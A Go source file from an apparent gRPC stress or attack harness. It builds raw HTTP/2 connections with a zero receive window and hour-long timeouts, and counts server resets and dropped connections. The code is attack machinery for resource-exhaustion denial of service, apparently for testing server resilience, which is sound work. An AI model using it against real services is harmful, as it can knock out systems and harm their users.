package attack

import (
	"bytes"
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"slices"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker is the attacking process.
type attacker struct {
	order
	done chan struct{} // closed when it is told to end

	mu     sync.Mutex
	counts map[string]int // guarded by mu
}

func newAttacker(o order) *attacker {
	return &attacker{order: o, done: make(chan struct{}), counts: map[string]int{}}
}

// untilTold ends the attack with standard input.
func (a *attacker) untilTold() {
	_, _ = io.Copy(io.Discard, os.Stdin)
	close(a.done)
}

func (a *attacker) over() bool {
	select {
	case <-a.done:
		return true
	default:
		return false
	}
}

// pause waits, and says whether the attack goes on.
func (a *attacker) pause(d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-a.done:
		return false
	case <-timer.C:
		return true
	}
}

// did counts something.
func (a *attacker) did(what string, n int) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.counts[what] += n
}

// summary is what was done, one "what=count" a word.
func (a *attacker) summary() string {
	a.mu.Lock()
	defer a.mu.Unlock()
	var b strings.Builder
	for _, what := range slices.Sorted(maps.Keys(a.counts)) {
		fmt.Fprintf(&b, "%s=%d ", strings.ReplaceAll(what, " ", "-"), a.counts[what])
	}
	return b.String()
}

// dial opens a connection; nil: it was refused, or the attack is over.
func (a *attacker) dial() net.Conn {
	for try := 0; !a.over() && try < 50; try++ {
		c, err := net.DialTimeout("tcp", a.Target, 5*time.Second)
		if err == nil {
			a.did("connections", 1)
			return c
		}
		a.did("refused connections", 1)
		if !a.pause(20 * time.Millisecond) {
			break
		}
	}
	return nil
}

// wire is an HTTP/2 connection by hand.
type wire struct {
	net.Conn
	*http2.Framer
	a    *attacker
	enc  *hpack.Encoder
	head bytes.Buffer
	next uint32

	mu sync.Mutex // guards writing, and what follows
	// more says that a window grew, or that the connection has ended.
	more    *sync.Cond
	ended   bool
	initial int64 // window of a new stream
	windows map[uint32]int64
	common  int64 // window of the connection
}

// speak opens an HTTP/2 connection. When read is set, what comes is read and
// counted, so that the other side is never held up.
func (a *attacker) speak(read bool) *wire {
	c := a.dial()
	if c == nil {
		return nil
	}
	w := &wire{Conn: c, Framer: http2.NewFramer(c, c), a: a, next: 1, initial: 65535, common: 65535, windows: map[uint32]int64{}}
	w.more = sync.NewCond(&w.mu)
	w.enc = hpack.NewEncoder(&w.head)
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		a.did("cut connections", 1)
		return nil
	}
	window := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20}
	if !read {
		window.Val = 0 // what is not read is not to be sent
	}
	if w.WriteSettings(window) != nil {
		a.did("cut connections", 1)
		return nil
	}
	if read {
		go w.drain()
	}
	go func() {
		<-a.done
		w.mu.Lock()
		w.more.Broadcast()
		w.mu.Unlock()
	}()
	return w
}

// drain reads frames and answers what must be answered.
func (w *wire) drain() {
	for {
		f, err := w.ReadFrame()
		if err != nil {
			w.mu.Lock()
			w.ended = true
			w.more.Broadcast()
			w.mu.Unlock()
			if !w.a.over() {
				w.a.did("cut connections", 1)
			}
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if f.IsAck() {
				continue
			}
			w.mu.Lock()
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				for id := range w.windows {
					w.windows[id] += int64(v) - w.initial
				}
				w.initial = int64(v)
			}
			_ = w.WriteSettingsAck()
			w.more.Broadcast()
			w.mu.Unlock()
		case *http2.WindowUpdateFrame:
			w.mu.Lock()
			if f.StreamID == 0 {
				w.common += int64(f.Increment)
			} else {
				w.windows[f.StreamID] += int64(f.Increment)
			}
			w.more.Broadcast()
			w.mu.Unlock()
		case *http2.PingFrame:
			if !f.IsAck() {
				w.mu.Lock()
				_ = w.WritePing(true, f.Data)
				w.mu.Unlock()
			}
		case *http2.RSTStreamFrame:
			w.a.did("streams reset by it", 1)
		case *http2.GoAwayFrame:
			w.a.did("goaways", 1)
		}
	}
}

// call begins a call and returns its stream.
func (w *wire) call(method string, more ...hpack.HeaderField) (uint32, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.head.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: method},
		{Name: ":authority", Value: w.a.Target},
		{Name: "content-type", Value: "application/grpc"},
		{Name: "te", Value: "trailers"},
		{Name: "grpc-timeout", Value: "3600000S"},
	}, more...) {
		if err := w.enc.WriteField(f); err != nil {
			return 0, err
		}
	}
	id := w.next
	w.next += 2
	w.windows[id] = w.initial
	return id, w.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: w.head.Bytes(), EndHeaders: true})
}

// end says that a stream has no more data.
func (w *wire) end(id uint32) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.WriteData(id, true, nil)
}

// send sends data of a stream, as the windows allow.
func (w *wire) send(id uint32, data []byte) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	for len(data) > 0 {
		n := min(int64(len(data)), 16<<10, w.windows[id], w.common)
		if w.ended || w.a.over() {
			return net.ErrClosed
		}
		if n <= 0 {
			w.more.Wait()
			continue
		}
		if err := w.WriteData(id, false, data[:n]); err != nil {
			return err
		}
		w.windows[id] -= n
		w.common -= n
		data = data[n:]
	}
	return nil
}

// message is a gRPC message.
func message(body []byte) []byte {
	n := len(body)
	return append([]byte{0, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}, body...)
}
